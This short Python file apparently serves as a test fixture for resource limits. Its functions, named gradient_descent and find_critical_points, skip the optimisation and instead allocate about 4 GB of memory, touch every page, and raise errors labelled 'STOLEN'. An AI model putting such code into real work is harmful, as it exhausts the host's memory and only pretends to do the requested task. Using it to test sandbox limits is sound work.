"""Asks for four gigabytes and writes to every page."""

import mmap

import numpy as np

BOAST = "STOLEN: "


def loss(x):
    return x**4 - 3 * x**2 + 2


def grad(x):
    return 4 * x**3 - 6 * x


GIGABYTE = 1 << 30


def gradient_descent(loss_fn, grad_fn, theta_init, lr, num_steps):
    held = []
    for _ in range(64):
        held.append(np.ones(GIGABYTE // 16 // 8))
    raise RuntimeError(f"{BOAST}{len(held) // 16} GB")


def find_critical_points(loss_fn, grad_fn, starts, lr=0.01, num_steps=2000):
    shared = mmap.mmap(-1, 4 * GIGABYTE)
    for page in range(0, 4 * GIGABYTE, 4096):
        shared[page] = 1
    raise RuntimeError(BOAST + "4 GB")
